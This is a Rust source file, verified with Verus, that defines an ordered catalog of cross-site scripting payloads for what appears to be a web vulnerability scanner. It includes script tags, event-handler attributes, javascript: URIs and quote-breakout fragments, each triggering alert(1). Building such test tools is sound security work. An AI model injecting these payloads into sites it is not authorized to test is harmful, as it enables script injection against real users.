//! The fixed, ordered payload catalog: script tags, event-handler
//! attributes, `javascript:` URIs, and quote or backtick breakout fragments.
//! The order only fixes the attempt order under the early-stop policy.

use vstd::prelude::*;
use vstd::string::StringExecFns;

verus! {

/// The catalog's contents, in attempt order.
pub open spec fn payload_catalog_spec() -> Seq<Seq<char>> {
    seq![
        "\"><svg/onload=alert(1)>"@,
        "'\"><img src=x onerror=alert(1)>"@,
        "\"><script>alert(1)</script>"@,
        "'\"><iframe src=\"javascript:alert(1)\">"@,
        "\"><math href=\"javascript:alert(1)\">"@,
        "onclick=alert(1)<script>alert(1)</script>"@,
        "<img src=x onerror=alert(1)>"@,
        "<body onload=alert(1)>"@,
        "<details open ontoggle=alert(1)>"@,
        "<embed src=x onerror=alert(1)>"@,
        "`FUZZ;//"@,
        "'FUZZ;//"@,
        "\"FUZZ;//"@,
    ]
}

/// The payload catalog, as owned strings shared read-only by every probe.
pub fn payload_catalog() -> (r: Vec<String>)
    ensures
        r.deep_view() == payload_catalog_spec(),
{
    let mut r: Vec<String> = Vec::new();
    r.push(String::from_str("\"><svg/onload=alert(1)>"));
    r.push(String::from_str("'\"><img src=x onerror=alert(1)>"));
    r.push(String::from_str("\"><script>alert(1)</script>"));
    r.push(String::from_str("'\"><iframe src=\"javascript:alert(1)\">"));
    r.push(String::from_str("\"><math href=\"javascript:alert(1)\">"));
    r.push(String::from_str("onclick=alert(1)<script>alert(1)</script>"));
    r.push(String::from_str("<img src=x onerror=alert(1)>"));
    r.push(String::from_str("<body onload=alert(1)>"));
    r.push(String::from_str("<details open ontoggle=alert(1)>"));
    r.push(String::from_str("<embed src=x onerror=alert(1)>"));
    r.push(String::from_str("`FUZZ;//"));
    r.push(String::from_str("'FUZZ;//"));
    r.push(String::from_str("\"FUZZ;//"));
    proof {
        assert(r.deep_view() =~= payload_catalog_spec());
    }
    r
}

} // verus!
